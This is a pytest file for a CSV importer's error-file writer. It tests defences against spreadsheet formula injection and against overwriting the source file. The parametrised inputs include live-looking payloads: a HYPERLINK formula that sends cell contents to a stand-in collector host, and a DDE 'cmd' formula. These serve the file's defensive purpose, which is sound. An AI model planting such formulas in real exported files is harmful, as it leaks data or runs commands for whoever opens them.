"""The error file is safe to open in a spreadsheet, comes back as it was, and never replaces what was imported."""

import csv
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from importing.error_file import check_error_file, error_file_of, write_errors
from importing.errors import FileRefusedError
from importing.formulas import guarded, unguarded
from importing.rows import BadRow
from importing.table import CsvTable

LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")


@given(st.text(max_size=20) | st.text(alphabet="'=+-@\t\r x", max_size=6))
def test_every_guarded_cell_is_dead_and_comes_back(cell: str) -> None:
    assert not guarded(cell).startswith(LIVE)
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://collector.example/?x="&B2,"open")',
        "+84901234567",
        "@SUM(1+1)*9",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already guarded",
        " =after a blank",
        "'tis an apostrophe",
        "plain",
    ],
)
def test_cells_are_guarded_in_the_file_and_read_back_as_they_were(tmp_path: Path, cell: str) -> None:
    path = tmp_path / "praise.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["From", "=cmd", "Message"], ["an", "mai", cell]])
    table = CsvTable(path)
    [line] = table.rows()
    target = error_file_of(path)
    write_errors(target, table, [BadRow(line, "=cmd", "valueInvalid", f"{cell}: is refused")])
    with target.open(encoding="utf-8-sig", newline="") as file:
        raw = list(csv.reader(file))
    assert not any(text.startswith(LIVE) for row in raw for text in row)
    again = CsvTable(target)
    assert again.header[4:] == ["From", "=cmd", "Message"]
    assert [one.cells[4:] for one in again.rows()] == [["an", "mai", cell]]


def test_an_apostrophe_in_an_ordinary_file_is_text(tmp_path: Path) -> None:
    path = tmp_path / "praise.csv"
    path.write_text("From,Message\nan,'=1+1\n", encoding="utf-8")
    assert [line.cells for line in CsvTable(path).rows()] == [["an", "'=1+1"]]


def test_an_error_file_of_an_error_file_has_the_notes_once(tmp_path: Path) -> None:
    path = tmp_path / "praise.csv"
    path.write_text('From,Message\nan,"=1"\nmai,two,three\nlinh,"open\n', encoding="utf-8")
    table = CsvTable(path)
    bad = [BadRow(line, "", "x", "y") for line in table.rows()]
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    write_errors(first, table, bad)
    errors = CsvTable(first)
    write_errors(second, errors, [BadRow(line, "", "x", "z") for line in errors.rows()])
    cells = [[*line.cells[4:]] for line in CsvTable(second).rows()]
    assert cells == [["an", "=1"], ["mai", "two", "three"], ["linh", "open"]]
    assert CsvTable(second).header == errors.header


def test_an_error_file_is_read_in_its_own_encoding_whatever_is_said_of_the_file(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes("Name,Email\nJörg,x\n".encode("cp1252"))
    table = CsvTable(path, None, "cp1252")
    target = error_file_of(path)
    write_errors(target, table, [BadRow(line, "Email", "x", "no address") for line in table.rows()])
    assert next(CsvTable(target, None, "cp1252").rows()).cells[4] == "Jörg"


@pytest.mark.parametrize("how", ["same", "dotted", "symbolic", "hard", "kept", "fresh"])
def test_the_imported_file_is_never_replaced(tmp_path: Path, how: str) -> None:
    path = tmp_path / ("errors.csv.bak" if how == "kept" else "errors.csv.part" if how == "fresh" else "praise.csv")
    path.write_text("From,Message\nan,mai\n", encoding="utf-8")
    other = tmp_path / "errors.csv"
    if how == "symbolic":
        other.symlink_to(path)
    elif how == "hard":
        os.link(path, other)
    target = {"same": path, "dotted": tmp_path / "." / "x" / ".." / path.name}.get(how, other)
    (tmp_path / "x").mkdir()
    with pytest.raises(FileRefusedError, match="would replace"):
        check_error_file(target, path)


def test_a_place_that_is_none_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    path = tmp_path / "praise.csv"
    path.write_text("From,Message\nan,mai\n", encoding="utf-8")
    check_error_file(error_file_of(path), path)
    for target in (tmp_path, tmp_path / "nowhere" / "errors.csv"):
        with pytest.raises(FileRefusedError):
            check_error_file(target, path)
